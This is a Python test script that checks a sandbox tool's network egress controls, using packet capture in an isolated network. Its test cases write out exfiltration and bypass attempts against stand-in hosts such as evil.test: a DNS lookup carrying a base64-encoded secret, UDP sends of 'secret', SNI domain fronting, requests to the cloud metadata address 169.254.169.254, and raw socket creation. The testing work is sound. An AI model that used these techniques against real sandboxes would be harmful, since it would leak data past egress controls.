#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What `coffer run --allow`, or a daemon for its declared tools, sends into the network, seen by a packet capture in a network of
its own.

Usage: egress_capture.py COFFER ipv4|ipv6|daemon. Prints one line for each case: its name, what the program inside said, the names
that a name server was asked for and the connections that were begun (their first packet), or "nothing". The servers are at
addresses of that family; those of the daemon's are at addresses of IPv4.
"""
import atexit
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import urllib.request

sys.dont_write_bytecode = True
import own_network  # noqa: E402

COFFER = sys.argv[1]
gateway = None  # where the daemon is asked: not of the calls
MARK = ("127.0.0.9", 9)  # a packet to it ends a case
holder = tempfile.TemporaryDirectory(prefix="capture-")
directory = holder.name
os.chmod(directory, 0o755)
EC = ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes"]


def make_certificate():
    def openssl(*words):
        subprocess.run(["openssl", *words], check=True, capture_output=True, cwd=directory)

    openssl("req", "-x509", *EC, "-keyout", "ca.key", "-out", "ca.pem", "-days", "2", "-subj", "/CN=test ca")
    openssl("req", *EC, "-keyout", "s.key", "-out", "s.csr", "-subj", "/CN=good.test")
    with open(directory + "/ext", "w") as ext:
        ext.write("subjectAltName=DNS:good.test,DNS:evil.test,DNS:meta.test,DNS:*.six.test")
    openssl("x509", "-req", "-in", "s.csr", "-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial", "-out", "s.pem",
            "-days", "2", "-extfile", "ext")
    os.chmod(directory + "/ca.pem", 0o644)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(directory + "/s.pem", directory + "/s.key")
    return context


def serve(address, context):
    listener = socket.create_server((address, 443), family=socket.AF_INET6 if ":" in address else socket.AF_INET)

    def answer(connection):
        try:
            with context.wrap_socket(connection, server_side=True) as tls:
                tls.recv(4096)
                tls.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nhello\n")
        except OSError:
            pass

    def loop():
        while True:
            threading.Thread(target=answer, args=(listener.accept()[0],), daemon=True).start()

    threading.Thread(target=loop, daemon=True).start()


def describe(packet, kind):
    """What a packet of IP begins, or None for one that answers or goes on."""
    if kind == 0x86DD:
        protocol, rest = packet[6], packet[40:]
        source, to = (socket.inet_ntop(socket.AF_INET6, packet[i:i + 16]) for i in (8, 24))
    elif kind == 0x0800:
        protocol, rest = packet[9], packet[(packet[0] & 15) * 4:]
        source, to = (socket.inet_ntoa(packet[i:i + 4]) for i in (12, 16))
    else:
        return f"ethertype {kind:#x}"
    place = f"[{to}]" if kind == 0x86DD else to
    if protocol == socket.IPPROTO_TCP:
        syn = rest[13] & 0x12 == 0x02 and (to, struct.unpack(">H", rest[2:4])[0]) != gateway
        return f"syn {place}:{struct.unpack('>H', rest[2:4])[0]}" if syn else None
    if protocol == socket.IPPROTO_UDP:
        ports = struct.unpack(">HH", rest[:4])
        if (source, ports[0]) == ("127.0.0.53", 53):
            return None
        if (to, ports[1]) == MARK:
            return "mark"
        if (to, ports[1]) == ("127.0.0.53", 53):
            return "asked " + own_network.question(rest[8:])[0]
        return f"udp {place}:{ports[1]}"
    return f"protocol {protocol} {place}"


def captured():
    seen = set()
    marker.sendto(b"end", MARK)
    while True:
        packet, where = capture.recvfrom(65536)
        if where[2] != 4:  # PACKET_OUTGOING: each is on the loopback twice
            continue
        what = describe(packet, where[1])
        if what == "mark":
            return ", ".join(sorted(seen)) or "nothing"
        if what:
            seen.add(what)


def case(name, rules, command, more=("--dangerously-allow-address", "127.0.0.2/32")):
    flags = [word for rule in rules for word in ("--allow", rule)]
    if rules:
        flags += ["--upstream-ca", directory + "/ca.pem", *more]
    run = subprocess.run([COFFER, "run", "--wall", "60s", *flags, "--", "sh", "-c", command], capture_output=True, text=True)
    print(f"{name} | {' '.join(run.stdout.split()) or 'no'} | {captured()}", flush=True)
    sys.stderr.write(run.stderr)
    return run.stderr


def stray(address):
    """The control: this process is in the same network, and nothing holds it."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family) as s:
        s.connect_ex((address, 9999))
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.sendto(b"x", (address, 53))
    try:
        socket.getaddrinfo("secret.evil.test", 443)
    except OSError:
        pass
    print(f"control | no | {captured()}", flush=True)


META = "169.254.169.254"
NAMES = {"good.test": "127.0.0.2", "evil.test": "127.0.0.3", "meta.test": META, "inner.test": "10.9.8.7",
         "good.six.test": "2600::2", "evil.six.test": "2600::3", "self.six.test": "::1", "private.six.test": "fd00::1",
         "link.six.test": "fe80::1", "meta.six.test": "fd00:ec2::254", "mapped.six.test": "::ffff:127.0.0.1",
         "mixed.six.test": ["2600::2", "fd00::1"]}
own_network.enter(directory)
own_network.serve_names(NAMES.get)
tls = make_certificate()
marked = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
marked.bind(MARK)
marker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
capture = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))  # ETH_P_ALL
capture.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)

QUIET = "-sS --retry 0 -m 30"
DIRECT = QUIET + " --noproxy '*'"
FRONTED = "echo x | openssl s_client -connect good.test:443 -servername evil.test 2>/dev/null | grep -c 'BEGIN CERT'"
RAW = """python3 - <<'END'
import socket
def try_(f):
    try: f(); return 'sent'
    except OSError: return 'refused'
u = lambda to: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', to)
print(try_(lambda: u(('127.0.0.3', 53))), try_(lambda: u(('192.0.2.1', 53))),
      try_(lambda: socket.create_connection(('192.0.2.1', 443), 5)),
      try_(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
      try_(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)))
END"""


def ipv4_cases():
    own_network.lead_here(META, 32)
    for address in ("127.0.0.2", "127.0.0.3", META):
        serve(address, tls)
    stray("127.0.0.3")
    case("spliced", ["good.test"], f"curl {QUIET} https://good.test/")
    case("spliced without a proxy", ["good.test"], f"curl {DIRECT} https://good.test/")
    case("judged", ["GET https://good.test/v1/**"], f"curl {QUIET} https://good.test/v1/x")
    case("another path", ["GET https://good.test/v1/**"], f"curl {QUIET} -o /dev/null -w '%{{http_code}}' https://good.test/v2")
    case("another name", ["good.test"], f"curl {QUIET} https://evil.test/")
    case("another name without a proxy", ["good.test"], f"curl {DIRECT} https://evil.test/")
    case("a name with a secret", ["good.test"], "getent ahosts c2VjcmV0.evil.test; getent ahosts c2VjcmV0.good.test")
    case("another port", ["good.test"], f"curl {QUIET} https://good.test:8443/")
    case("another port without a proxy", ["good.test"], f"curl {DIRECT} https://good.test:8443/")
    fetch_meta = f"curl {QUIET} https://meta.test/"
    case("a refused address", ["meta.test"], fetch_meta)
    # A wider range opens its own block, not the one inside it.
    case("a refused address in an opened range", ["meta.test"], fetch_meta, ("--dangerously-allow-address", "169.254.0.0/16"))
    case("a refused address opened", ["meta.test"], fetch_meta, ("--dangerously-allow-address", META + "/32"))
    case("another server name", ["good.test"], FRONTED.replace("s_client", "s_client -proxy 127.0.0.1:3128"))
    case("another server name without a proxy", ["good.test"], FRONTED)
    case("its own server name", ["good.test"], FRONTED.replace("-servername evil", "-servername good"))
    case("not TLS without a proxy", ["good.test"], "echo GET / | busybox nc good.test 443 | wc -c")
    case("without names", ["good.test"], RAW)
    case("no rules", [], f"curl {DIRECT} https://good.test/; getent ahosts good.test")


def ipv6_cases():
    for prefix in ("2600::", "fd00::"):
        own_network.lead_here(prefix, 16)
    for address in ("::", "127.0.0.1", "127.0.0.2"):
        serve(address, tls)
    stray("2600::3")
    fetch = f"curl {QUIET} https://"
    rule = ["good.six.test"]
    case("spliced", rule, fetch + "good.six.test/", [])
    case("spliced without a proxy", rule, f"curl -6 {DIRECT} https://good.six.test/", [])
    case("judged", ["GET https://good.six.test/v1/**"], fetch + "good.six.test/v1/x", [])
    case("judged without a proxy", ["GET https://good.six.test/v1/**"], f"curl -6 {DIRECT} https://good.six.test/v1/x", [])
    case("another path", ["GET https://good.six.test/v1/**"],
         f"curl {QUIET} -o /dev/null -w '%{{http_code}}' https://good.six.test/v2", [])
    case("another name", rule, fetch + "evil.six.test/", [])
    case("another port", rule, fetch + "good.six.test:8443/", [])
    case("resolved by the operator", ["fixed.six.test"], fetch + "fixed.six.test/", ["--resolve", "fixed.six.test=2600::3"])
    case("resolved by the operator to a refused address", ["fixed.six.test"], fetch + "fixed.six.test/",
         ["--resolve", "fixed.six.test=fd00::1"])
    # What is refused is reached with the flag that the refusal names.
    for name in ("self", "private", "meta", "mapped", "mixed", "link"):
        host = name + ".six.test"
        case(name + " without a proxy", [host], f"curl -6 {DIRECT} https://{host}/", [])
        said = case(name, [host], fetch + host + "/", [])
        if name != "link":  # there the name alone does not say on which link
            case(name + " opened", [host], fetch + host + "/", said[said.index("--dangerously-allow-address"):].split()[:2])


# What a tool's script has: it says the body, or the status of a refusal, or "no".
CLIENT = """
import os, socket, ssl, urllib.error, urllib.request as u
def get(url):
    try: return u.urlopen(url, timeout=30).read().decode().strip()
    except urllib.error.HTTPError as e: return e.code
    except OSError: return 'no'
def direct(url):
    for name in list(os.environ):
        if name.lower().endswith('_proxy'): del os.environ[name]
    return get(url)
def named(name, proxied):
    try:
        s = socket.create_connection(('127.0.0.1', 3128) if proxied else ('good.test', 443), 30)
        if proxied:
            s.sendall(b'CONNECT good.test:443 HTTP/1.1\\r\\nHost: good.test:443\\r\\n\\r\\n')
            s.recv(4096)
        t = ssl.create_default_context().wrap_socket(s, server_hostname=name)
        t.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
        return t.recv(4096).decode().split()[-1]
    except OSError: return 'no'
def known(name):
    try: return len(socket.getaddrinfo(name, 443)) > 0
    except OSError: return 'no'
def attempt(family, kind, protocol, to):
    try: socket.socket(family, kind, protocol).sendto(b'secret', to); return 'sent'
    except OSError: return 'refused'
"""
MANIFEST = """[tool]
name = "%s"
version = "1"
summary = "Runs a script that may talk to some hosts."
effect = "reversible"
[input.schema]
type = "object"
required = ["script"]
properties.script = { type = "string" }
[run]
runtime = "python3"
argv = ["python3", "-c", "{script}"]
[limits]
wall = "60s"
[rate]
retry = "off"
%s
[[examples.allow]]
args = { script = "" }
why = "a script"
[[examples.deny]]
args = {}
why = "no script"
"""
SPLICED = '[[network.allow]]\nhost = "%s"\ntls = "splice"\n'
TOOLS = {"splices": SPLICED % "good.test", "judges": '[[network.allow]]\nhost = "good.test"\npaths = ["/v1/**"]\n',
         "inner": SPLICED % "inner.test", "meta": SPLICED % "meta.test", "mute": ""}
UNCONNECTED = """print(attempt(2, 2, 0, ('127.0.0.3', 53)), attempt(2, 2, 0, ('192.0.2.1', 53)), attempt(2, 1, 0, ('192.0.2.1', 443)),
      attempt(2, 3, 1, ('192.0.2.1', 0)), attempt(17, 3, 0, ('lo', 0)))"""


def start_daemon():
    global gateway
    os.mkdir(directory + "/tools")
    for name, rules in TOOLS.items():
        with open(f"{directory}/tools/{name}.toml", "w") as file:
            file.write(MANIFEST % (name, rules))
    with open(directory + "/coffer.toml", "w") as file:
        file.write(f'[egress]\nupstream_ca = "{directory}/ca.pem"\ndangerously_addresses = ["127.0.0.2/32", "{META}/32"]\n')
    os.chmod(directory + "/coffer.toml", 0o644)
    daemon = subprocess.Popen([COFFER, "serve", "--state", directory + "/state", "--listen", "127.0.0.1:0", "--json", "--tools",
                               directory + "/tools", "--config", directory + "/coffer.toml"], stdout=subprocess.PIPE, text=True)
    atexit.register(lambda: (daemon.terminate(), daemon.wait()))
    said = ""
    while not said.rstrip().endswith("}"):
        line = daemon.stdout.readline()
        if not line:
            raise SystemExit("the daemon does not start: " + said)
        said += line
    said = json.loads(said)
    gateway = ("127.0.0.1", int(said["listen"].rsplit(":", 1)[1]))
    return said["key"]


def daemon_cases():
    own_network.lead_here(META, 32)
    for address in ("127.0.0.2", "127.0.0.3", META):
        serve(address, tls)
    key = start_daemon()
    # What the daemon itself looks up or dials while it starts is not to be taken for a call's.
    print(f"start | no | {captured()}", flush=True)
    stray("127.0.0.3")
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))

    def call(name, tool, script):
        body = json.dumps({"tool": tool, "args": {"script": CLIENT + script}}).encode()
        answer = json.load(opener.open(urllib.request.Request(
            "http://%s:%d/v1/calls" % gateway, body, {"Authorization": "Bearer " + key, "Content-Type": "application/json"}), timeout=120))
        print(f"{name} | {' '.join((answer.get('result') or {}).get('stdout', str(answer)).split())} | {captured()}", flush=True)

    call("spliced", "splices", "print(get('https://good.test/'))")
    call("spliced without a proxy", "splices", "print(direct('https://good.test/'))")
    call("judged", "judges", "print(get('https://good.test/v1/x'))")
    call("judged without a proxy", "judges", "print(direct('https://good.test/v1/x'))")
    call("another path", "judges", "print(get('https://good.test/v2'))")
    call("another name", "splices", "print(get('https://evil.test/'))")
    call("another name without a proxy", "splices", "print(direct('https://evil.test/'))")
    call("a name with a secret", "splices", "print(known('c2VjcmV0.evil.test'), known('c2VjcmV0.good.test'))")
    call("another port", "splices", "print(get('https://good.test:8443/'), direct('https://good.test:8443/'))")
    call("a refused address", "inner", "print(get('https://inner.test/'), direct('https://inner.test/'))")
    call("a metadata service that was opened", "meta", "print(get('https://meta.test/'))")
    call("another server name", "splices", "print(named('evil.test', True))")
    call("another server name without a proxy", "splices", "print(named('evil.test', False))")
    call("its own server name", "splices", "print(named('good.test', True), named('good.test', False))")
    call("without names", "splices", UNCONNECTED)
    call("no rules", "mute", "print(get('https://good.test/'), direct('https://good.test/'), known('good.test'))\n" + UNCONNECTED)
    call("spliced again", "splices", "print(get('https://good.test/'))")


{"ipv4": ipv4_cases, "ipv6": ipv6_cases, "daemon": daemon_cases}[sys.argv[2]]()
